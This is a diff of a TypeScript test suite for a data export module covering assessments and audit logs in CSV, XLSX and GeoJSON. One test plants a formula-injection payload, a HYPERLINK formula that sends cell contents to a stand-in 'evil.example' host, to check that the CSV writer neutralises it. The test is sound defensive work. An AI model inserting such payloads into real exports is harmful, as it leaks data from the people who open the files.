@@ -16,17 +16,19 @@ import { assessmentWorld, sample } from '$lib/server/assessments/testing';
 import { DATASETS, findDataset, startExport } from '.';
 import { datasetMapping, documentedMapping } from './doc';
 import type { Cell } from './dataset';
+import { allRows, keysetPages } from './keyset';
 import { csvStream } from './writers';
 import { fillAssessments } from './testing';
-import { refusal } from '$lib/server/testing';
+import { first } from '$lib/server/db/transaction';
+import { refused } from '$lib/server/testing';
 
-let w: ReturnType<typeof assessmentWorld>;
-beforeEach(() => {
-	w = assessmentWorld();
+let w: Awaited<ReturnType<typeof assessmentWorld>>;
+beforeEach(async () => {
+	w = await assessmentWorld();
 });
 
-const submit = (actor: SessionUser, over: Partial<AssessmentInput> = {}) =>
-	submitAssessment(w.db, actor, assessmentSchema.parse(sample(w.responseId, over))).record;
+const submit = async (actor: SessionUser, over: Partial<AssessmentInput> = {}) =>
+	(await submitAssessment(w.db, actor, assessmentSchema.parse(sample(w.responseId, over)))).record;
 
 const admin = (): SessionUser => ({ ...w.coordinator, id: w.coordinator.id, role: 'admin' });
 
@@ -45,15 +47,15 @@ async function workbook(stream: ReadableStream<Uint8Array>) {
 }
 
 async function csv(actor: SessionUser, name: string, query: Record<string, string>) {
-	const file = run(actor, name, 'csv', query);
+	const file = await run(actor, name, 'csv', query);
 	const rows: string[][] = parse(await bytes(file.body), { bom: true });
 	return { file, header: rows[0], hxl: rows[1], rows: rows.slice(2) };
 }
 
 describe('the assessments export', () => {
 	it('writes the header, the HXL row and the rows of the filters, as CSV', async () => {
-		const a = submit(w.field, { villageName: 'Kantueu', observedOn: '2020-10-12' });
-		submit(w.field, { observedOn: '2020-10-20' });
+		const a = await submit(w.field, { villageName: 'Kantueu', observedOn: '2020-10-12' });
+		await submit(w.field, { observedOn: '2020-10-20' });
 		const { file, header, hxl, rows } = await csv(w.coordinator, 'assessments', {
 			responseId: String(w.responseId),
 			to: '2020-10-15'
@@ -81,7 +83,7 @@ describe('the assessments export', () => {
 
 	it('neutralises text a spreadsheet would run as a formula, in CSV; XLSX keeps it as text', async () => {
 		const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
-		submit(w.field, { villageName: formula, notes: '@SUM(1+1)' });
+		await submit(w.field, { villageName: formula, notes: '@SUM(1+1)' });
 		const query = { responseId: String(w.responseId) };
 		const { header, rows } = await csv(w.coordinator, 'assessments', query);
 		const record = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
@@ -90,7 +92,7 @@ describe('the assessments export', () => {
 			Notes: "'@SUM(1+1)",
 			'Affected persons': '117'
 		});
-		const sheet = (await workbook(run(w.coordinator, 'assessments', 'xlsx', query).body))
+		const sheet = (await workbook((await run(w.coordinator, 'assessments', 'xlsx', query)).body))
 			.worksheets[0];
 		const village = sheet.getRow(3).getCell(header.indexOf('Village') + 1);
 		expect(village.type).toBe(ExcelJS.ValueType.String);
@@ -98,8 +100,8 @@ describe('the assessments export', () => {
 	});
 
 	it('gives partners their own organisation’s rows only, whatever organisation they ask for', async () => {
-		submit(w.field);
-		const own = submit(w.partner);
+		await submit(w.field);
+		const own = await submit(w.partner);
 		const { rows } = await csv(w.partner, 'assessments', {
 			responseId: String(w.responseId),
 			organisationId: String(w.iom)
@@ -109,23 +111,30 @@ describe('the assessments export', () => {
 		expect(all.rows).toHaveLength(2);
 	});
 
-	it('refuses viewers, who may see totals but not records', () => {
+	it('refuses viewers, who may see totals but not records', async () => {
 		expect(
-			refusal(() => run(w.viewer, 'assessments', 'csv', { responseId: String(w.responseId) }))
-				.status
+			(
+				await refused(() =>
+					run(w.viewer, 'assessments', 'csv', { responseId: String(w.responseId) })
+				)
+			).status
 		).toBe(403);
 	});
 
 	it('reads back from XLSX equal to the rows in the database', async () => {
-		for (let i = 0; i < 30; i++) submit(i % 2 ? w.field : w.partner, { villageName: `ភូមិ ${i}` });
-		const file = run(w.coordinator, 'assessments', 'xlsx', { responseId: String(w.responseId) });
+		for (let i = 0; i < 30; i++) {
+			await submit(i % 2 ? w.field : w.partner, { villageName: `ភូមិ ${i}` });
+		}
+		const file = await run(w.coordinator, 'assessments', 'xlsx', {
+			responseId: String(w.responseId)
+		});
 		const book = await workbook(file.body);
 		const sheet = book.getWorksheet('assessments')!;
 		const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
 		const header = values(1) as string[];
 		expect(values(2)[header.indexOf('Latitude')]).toBe('#geo+lat');
 		expect(sheet.rowCount).toBe(32);
-		const stored = w.db.select().from(assessments).orderBy(assessments.seq).all();
+		const stored = await w.db.select().from(assessments).orderBy(assessments.seq);
 		stored.forEach((a, i) => {
 			const row = Object.fromEntries(header.map((h, j) => [h, values(i + 3)[j] ?? null]));
 			expect(row).toMatchObject({
@@ -146,8 +155,8 @@ describe('the assessments export', () => {
 	});
 
 	it('writes GeoJSON points with the columns as properties', async () => {
-		const a = submit(w.field, { lon: 103.21, lat: 13.11 });
-		const file = run(w.field, 'assessments', 'geojson', { responseId: String(w.responseId) });
+		const a = await submit(w.field, { lon: 103.21, lat: 13.11 });
+		const file = await run(w.field, 'assessments', 'geojson', { responseId: String(w.responseId) });
 		expect(file.contentType).toBe('application/geo+json');
 		const fc = JSON.parse((await bytes(file.body)).toString('utf8'));
 		expect(fc.type).toBe('FeatureCollection');
@@ -157,37 +166,37 @@ describe('the assessments export', () => {
 	});
 
 	it('gives only the header rows (and an empty collection) when the filters match nothing', async () => {
-		submit(w.field);
+		await submit(w.field);
 		const query = { responseId: String(w.responseId), from: '2020-11-01' };
 		const empty = await csv(w.coordinator, 'assessments', query);
 		expect(empty.header).toContain('Assessment ID');
 		expect(empty.hxl).toContain('#meta+id');
 		expect(empty.rows).toEqual([]);
-		const book = await workbook(run(w.coordinator, 'assessments', 'xlsx', query).body);
+		const book = await workbook((await run(w.coordinator, 'assessments', 'xlsx', query)).body);
 		expect(book.getWorksheet('assessments')!.rowCount).toBe(2);
 		const fc = JSON.parse(
-			(await bytes(run(w.coordinator, 'assessments', 'geojson', query).body)).toString()
+			(await bytes((await run(w.coordinator, 'assessments', 'geojson', query)).body)).toString()
 		);
 		expect(fc).toEqual({ type: 'FeatureCollection', features: [] });
 	});
 
-	it('refuses bad filters, an unknown format and an unknown response before writing', () => {
-		expect(() =>
+	it('refuses bad filters, an unknown format and an unknown response before writing', async () => {
+		await expect(
 			run(w.coordinator, 'assessments', 'csv', { responseId: String(w.responseId), from: 'soon' })
-		).toThrow(ZodError);
-		expect(() => run(w.coordinator, 'assessments', 'csv', {})).toThrow(ZodError);
+		).rejects.toThrow(ZodError);
+		await expect(run(w.coordinator, 'assessments', 'csv', {})).rejects.toThrow(ZodError);
 		expect(
-			refusal(() => run(w.coordinator, 'assessments', 'pdf', { responseId: '1' })).status
+			(await refused(() => run(w.coordinator, 'assessments', 'pdf', { responseId: '1' }))).status
 		).toBe(400);
 		expect(
-			refusal(() => run(w.coordinator, 'assessments', 'csv', { responseId: '999' })).status
+			(await refused(() => run(w.coordinator, 'assessments', 'csv', { responseId: '999' }))).status
 		).toBe(404);
-		expect(w.db.select().from(auditLog).where(eq(auditLog.action, 'export')).all()).toEqual([]);
+		expect(await w.db.select().from(auditLog).where(eq(auditLog.action, 'export'))).toEqual([]);
 	});
 
 	it('records the export with its filters, format and no personal data', async () => {
 		await csv(w.partner, 'assessments', { responseId: String(w.responseId), access: 'road' });
-		const entry = w.db.select().from(auditLog).where(eq(auditLog.action, 'export')).get();
+		const entry = await first(w.db.select().from(auditLog).where(eq(auditLog.action, 'export')));
 		expect(entry).toMatchObject({
 			userId: w.partner.id,
 			entity: 'assessments',
@@ -203,22 +212,23 @@ describe('the assessments export', () => {
 
 describe('the audit export', () => {
 	it('is for administrators only, and recorded as holding personal data', async () => {
-		submit(w.field);
-		expect(refusal(() => run(w.coordinator, 'audit', 'csv', {})).status).toBe(403);
+		await submit(w.field);
+		expect((await refused(() => run(w.coordinator, 'audit', 'csv', {}))).status).toBe(403);
 		const { rows, header } = await csv(admin(), 'audit', { action: 'create' });
 		expect(rows).toHaveLength(1);
 		const record = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
 		expect(record).toMatchObject({ Action: 'create', Entity: 'assessments', User: 'field@x.org' });
-		const entry = w.db
-			.select()
-			.from(auditLog)
-			.where(and(eq(auditLog.action, 'export'), eq(auditLog.entity, 'audit')))
-			.get();
+		const entry = await first(
+			w.db
+				.select()
+				.from(auditLog)
+				.where(and(eq(auditLog.action, 'export'), eq(auditLog.entity, 'audit')))
+		);
 		expect(entry?.detail).toEqual({ format: 'csv', personal: true, filters: { action: 'create' } });
 	});
 
-	it('has no GeoJSON, since audit entries have no place', () => {
-		expect(refusal(() => run(admin(), 'audit', 'geojson', {})).status).toBe(400);
+	it('has no GeoJSON, since audit entries have no place', async () => {
+		expect((await refused(() => run(admin(), 'audit', 'geojson', {}))).status).toBe(400);
 	});
 });
 
@@ -253,7 +263,9 @@ describe('a large export', () => {
 	 * comes. How much memory that takes is the benchmark's to measure (`npm run bench exports`).
 	 */
 	async function consume<T>(format: string, parse: (pieces: AsyncIterable<Buffer>) => Promise<T>) {
-		const file = run(w.coordinator, 'assessments', format, { responseId: String(w.responseId) });
+		const file = await run(w.coordinator, 'assessments', format, {
+			responseId: String(w.responseId)
+		});
 		const seen = { size: 0, pieces: 0, largest: 0 };
 		async function* pieces() {
 			for await (const value of file.body) {
@@ -288,7 +300,7 @@ describe('a large export', () => {
 	}
 
 	it('streams 100,000 rows as CSV, in order, in many small pieces', async () => {
-		fill(100_000);
+		await fill(100_000);
 		const { size, pieces, largest, parsed } = await consume('csv', async (input) => {
 			const seen = days();
 			let column = -1;
@@ -313,7 +325,7 @@ describe('a large export', () => {
 	}, 120_000);
 
 	it('streams 20,000 rows as XLSX, in order, in many small pieces', async () => {
-		fill(20_000);
+		await fill(20_000);
 		const { size, pieces, largest, parsed } = await consume('xlsx', async (input) => {
 			const seen = days();
 			const reader = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(input), {});
@@ -391,5 +403,23 @@ describe('formula neutralisation', () => {
 	it('keeps numbers as numbers, negative ones too', async () => {
 		const raw = (await bytes(csvStream(table([-5, 0, 12.5, true, null])))).toString('utf8');
 		expect(raw.split('\r\n')[2]).toBe('-5,0,12.5,true,');
+	});
+});
+
+describe('keyset pages', () => {
+	it('read each page after the last row of the one before, until a short page', async () => {
+		const ids = [1, 2, 3, 4, 5];
+		const asked: (number | null)[] = [];
+		const rows = keysetPages(
+			async (after: number | null, limit) => {
+				asked.push(after);
+				return ids.filter((id) => id > (after ?? 0)).slice(0, limit);
+			},
+			(id) => id,
+			2
+		);
+		expect(asked).toEqual([]);
+		expect(await allRows(rows)).toEqual(ids);
+		expect(asked).toEqual([null, 2, 4]);
 	});
 });
